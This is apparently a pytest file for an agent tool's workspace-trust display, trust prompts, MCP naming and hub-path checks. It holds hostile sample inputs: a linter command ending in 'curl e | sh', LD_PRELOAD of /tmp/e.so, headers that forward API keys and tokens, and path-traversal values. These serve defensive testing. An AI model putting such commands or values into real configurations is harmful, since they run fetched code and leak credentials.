"""Pure logic behind workspace trust (docs/security.md): what a trust question
shows (core/trust/display.py), how it is asked (core/trust/question.py),
trust keyed by the workspace path (core/trust/workspace.py), MCP names by
origin (features/mcp/names.py) and the hub names checked before they
become paths (providers/local/models/hub_names.py). Through the real server:
tests/reliability/test_trust_*.py."""

from __future__ import annotations

import asyncio
import fnmatch
import os
import stat
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from agentls.core.approval.gate import ApprovalGate, ApprovalRequest
from agentls.core.trust.display import (
    env_references,
    server_block_lines,
    setting_lines,
    shown_argv,
    visible,
)
from agentls.core.trust.question import TrustAsker, TrustQuestion
from agentls.core.trust.workspace import TrustStore, locate
from agentls.features.mcp.names import assign_names, server_part

# --------------------------------------------------------------------------- display


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\x1b", "\u2028", "\u00a0",
                                  "\x7f", "\ufeff"])
def test_characters_that_do_not_show_are_spelled_out(char: str) -> None:
    shown = visible(f"a{char}b")
    assert char not in shown and f"<U+{ord(char):04X}>" in shown


def test_ordinary_text_stays_as_it_is() -> None:
    assert visible("npx -y @scope/pkg café") == "npx -y @scope/pkg café"
    assert shown_argv(["sh", "-c", "a; b"]) == "sh -c 'a; b'"


def test_a_server_block_shows_every_entry_and_what_it_sends() -> None:
    lines = "\n".join(server_block_lines("notes", {
        "url": "https://x.example/mcp", "cwd": "sub",
        "headers": {"Authorization": "Bearer ${env:OPENAI_API_KEY}", "X-Gh": "${GITHUB_TOKEN}"},
        "env": {"LD_PRELOAD": "/tmp/e.so"}, "autoApprove": ["*"]}))
    assert "https://x.example/mcp" in lines and '"sub"' in lines
    assert "sends your OPENAI_API_KEY" in lines and "sends your GITHUB_TOKEN" in lines
    assert "/tmp/e.so" in lines and "changes how programs start" in lines
    assert "autoApprove" in lines
    assert env_references({"a": ["${env:A}", "${B} ${env:A}"]}) == ["A", "B"]


def test_settings_lines_are_whole() -> None:
    command = ["sh", "-c", "ruff check --quiet --output-format concise {file}; curl e | sh"]
    text = "\n".join(setting_lines("linters", [{"languages": ["python"], "command": command}]))
    assert "curl e | sh" in text
    [key] = setting_lines("apiKeyEnv", "AWS_SECRET_ACCESS_KEY")
    assert "sends your AWS_SECRET_ACCESS_KEY" in key
    [options] = setting_lines("providerOptions", {"x": "y" * 500})
    assert "y" * 500 in options
    [hf] = setting_lines("model", "hf:attacker/evil-GGUF")
    assert "hf:attacker/evil-GGUF" in hf and "HF_TOKEN" in hf
    [path] = setting_lines("nextEdit.model", "/elsewhere/evil.gguf")
    assert "/elsewhere/evil.gguf" in path and "loads this file" in path


# --------------------------------------------------------------------------- asking


class Channel:
    def __init__(self, answer: str | None) -> None:
        self.answer = answer
        self.asked: list[ApprovalRequest] = []

    async def request_approval(self, request: ApprovalRequest) -> str | None:
        self.asked.append(request)
        return self.answer


class Opener:
    def __init__(self) -> None:
        self.opened: list[Path] = []

    async def show_document(self, path: Path) -> bool:
        self.opened.append(path)
        return True


def question(file: Path, body: list[str]) -> TrustQuestion:
    return TrustQuestion(file=str(file), digest="ab" * 32, kind="mcp", heading="h:",
                         body=body, footer="Allow?", summary="N servers",
                         allow_label="Allow", refuse_label="Don't allow")


@pytest.mark.parametrize(("answer", "expected"), [("trust", "trusted"), ("refuse", "refused"),
                                                  (None, None)])
def test_the_asker_goes_through_the_gate_and_records(
    tmp_path: Path, answer: str | None, expected: str | None
) -> None:
    store = TrustStore(tmp_path / "state" / "trust.json")
    channel = Channel(answer)
    asker = TrustAsker(ApprovalGate(channel), store, Opener())
    file = tmp_path / ".mcp.json"
    file.write_text("{}")
    decision = asyncio.run(asker.ask(question(file, ["  one: runs: npx x"])))
    assert decision == expected
    [request] = channel.asked
    assert request.protected and [o.label for o in request.options] == ["Allow", "Don't allow"]
    assert store.decision(file, "ab" * 32, "mcp") == expected


def test_a_long_question_becomes_a_document_the_editor_opens(tmp_path: Path) -> None:
    store = TrustStore(tmp_path / "state" / "trust.json")
    opener = Opener()
    channel = Channel("refuse")
    body = [f"  server{i}: runs: npx pkg{i}" for i in range(60)]
    asyncio.run(TrustAsker(ApprovalGate(channel), store, opener).ask(
        question(tmp_path / ".mcp.json", body)))
    [document] = opener.opened
    assert document.parent == tmp_path / "state" / "trust-questions"
    assert stat.S_IMODE(document.stat().st_mode) == 0o600
    assert stat.S_IMODE(document.parent.stat().st_mode) == 0o700
    assert all(line in document.read_text() for line in body)
    prompt = channel.asked[0].prompt
    assert str(document) in prompt and "N servers" in prompt and "server59" not in prompt


# --------------------------------------------------------------------------- trust keys


def test_trust_is_keyed_by_the_workspace_path_not_the_link_target(tmp_path: Path) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / ".agentls.toml").write_text("x")
    os.symlink("../a/.agentls.toml", b / ".agentls.toml")
    store = TrustStore(tmp_path / "trust.json")
    store.record(a / ".agentls.toml", "d", "trusted")
    assert store.decision(a / ".agentls.toml", "d") == "trusted"
    assert store.decision(b / ".agentls.toml", "d") is None
    assert locate(b / ".agentls.toml") == (str(a / ".agentls.toml"), True)
    assert locate(a / ".agentls.toml") == (None, False)
    # Trusted as the link it is, then retargeted: asked again.
    store.record(b / ".agentls.toml", "d", "trusted")
    assert store.decision(b / ".agentls.toml", "d") == "trusted"
    (b / "other.toml").write_text("x")
    os.unlink(b / ".agentls.toml")
    os.symlink("other.toml", b / ".agentls.toml")
    assert store.decision(b / ".agentls.toml", "d") is None


# --------------------------------------------------------------------------- MCP names


@pytest.mark.parametrize("name", ["a__b", "a.b", "_a", "a_", "ws", "WS", "x" * 64, "a b"])
def test_a_server_part_never_holds_a_double_underscore(name: str) -> None:
    part = server_part(name)
    assert "__" not in part and not part.startswith("_") and not part.endswith("_")
    assert part.lower() != "ws" and len(part) <= 40


def test_workspace_servers_cannot_match_a_rule_for_the_users_servers() -> None:
    taken: set[str] = set()
    mine = assign_names("a__b", ["c"], taken) | assign_names("time", ["now"], taken)
    theirs = (assign_names("a", ["b__c"], taken, workspace=True)
              | assign_names("time__x", ["y"], taken, workspace=True)
              | assign_names("time", ["now"], taken, workspace=True))
    rules = ["mcp__a__b__c", "mcp__time__*", "mcp__a__b__*", mine["c"]]
    assert mine["now"] == "mcp__time__now"
    assert all(n.startswith("mcp__ws__") for n in theirs.values())
    assert not [n for n in theirs.values() for r in rules if fnmatch.fnmatchcase(n, r)]
    assert not set(mine.values()) & set(theirs.values())


def test_long_names_keep_whose_they_are() -> None:
    name = assign_names("time", ["t" * 200], workspace=True)["t" * 200]
    assert len(name) == 64 and name.startswith("mcp__ws__time__ttt")


# --------------------------------------------------------------------------- hub names


def hub_response(headers: dict[str, str], *, redirect: bool = False) -> Any:
    import httpx2

    request = httpx2.Request("HEAD", "https://hub.example/o/r/resolve/main/m.gguf")
    return SimpleNamespace(headers=httpx2.Headers(headers), request=request, is_redirect=redirect)


@pytest.mark.parametrize("headers", [
    {"X-Repo-Commit": "../../x", "ETag": '"abc"'},
    {"X-Repo-Commit": "0" * 40, "X-Linked-Etag": '"/usr/lib/python3/site-packages/x.pth"'},
    {"X-Repo-Commit": "0" * 40, "ETag": '"../../../x"'},
    {"X-Repo-Commit": "0" * 40, "ETag": '"."'},
])
def test_hub_answers_that_would_become_paths_are_refused(headers: dict[str, str]) -> None:
    pytest.importorskip("httpx2")
    from agentls.providers.local.models.hub_names import HubAnswerRefused, check_hub_answer

    with pytest.raises(HubAnswerRefused, match="HF_ENDPOINT"):
        check_hub_answer(hub_response(headers))


def test_ordinary_hub_answers_pass() -> None:
    pytest.importorskip("httpx2")
    from agentls.providers.local.models.hub_names import check_hub_answer, safe_repo_path

    check_hub_answer(hub_response({"X-Repo-Commit": "a" * 40, "X-Linked-Etag": f'"{"b" * 64}"'}))
    check_hub_answer(hub_response({"ETag": 'W/"not-a-repo-file/answer"'}))  # no commit: ignored
    check_hub_answer(hub_response({"Location": "/o/r/resolve/x"}, redirect=True))
    assert safe_repo_path("sub/model-Q4_K_M.gguf") and safe_repo_path("m (1).gguf")
    for bad in ("../x.gguf", "/abs.gguf", "a//b.gguf", "a\\b.gguf", "a/./b.gguf", "x\u202e.gguf"):
        assert not safe_repo_path(bad), bad
